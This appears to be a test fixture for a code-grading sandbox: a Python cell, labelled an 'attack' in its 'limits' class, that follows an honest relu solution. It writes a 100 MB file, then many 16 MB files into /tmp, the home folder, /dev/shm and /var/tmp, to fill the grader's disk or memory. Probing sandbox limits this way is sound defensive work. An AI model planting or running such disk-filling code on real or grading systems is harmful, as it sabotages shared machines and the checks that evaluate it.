"""Fills every writable folder: one file past the size limit, then many files until the disk is full.

attack: writes a 100 MB file to the working folder, then 16 MB files into /tmp and the home folder until writing fails, and tries /dev/shm, hoping to fill the grading machine's disk or memory
class: limits
honest: sigmoid, relu
"""

# %% +after relu_code
import os
from pathlib import Path

_report = {}
try:
    with open("one_big_file.bin", "wb") as _f:
        _f.write(b"\0" * (100 * 1024**2))
    _report["big"] = "written"
except OSError as exc:
    _report["big"] = f"{type(exc).__name__}: {exc}"
_chunk = b"\1" * (16 * 1024**2)
for _folder in ("/tmp", str(Path.home()), "/dev/shm", "/var/tmp"):
    _n = 0
    try:
        while _n < 64:
            with open(os.path.join(_folder, f"fill_{_n}.bin"), "wb") as _f:
                _f.write(_chunk)
            _n += 1
        _report[_folder] = f"{_n} files, no limit hit"
    except OSError as exc:
        _report[_folder] = f"{_n} files, then {type(exc).__name__}"
print(_report)
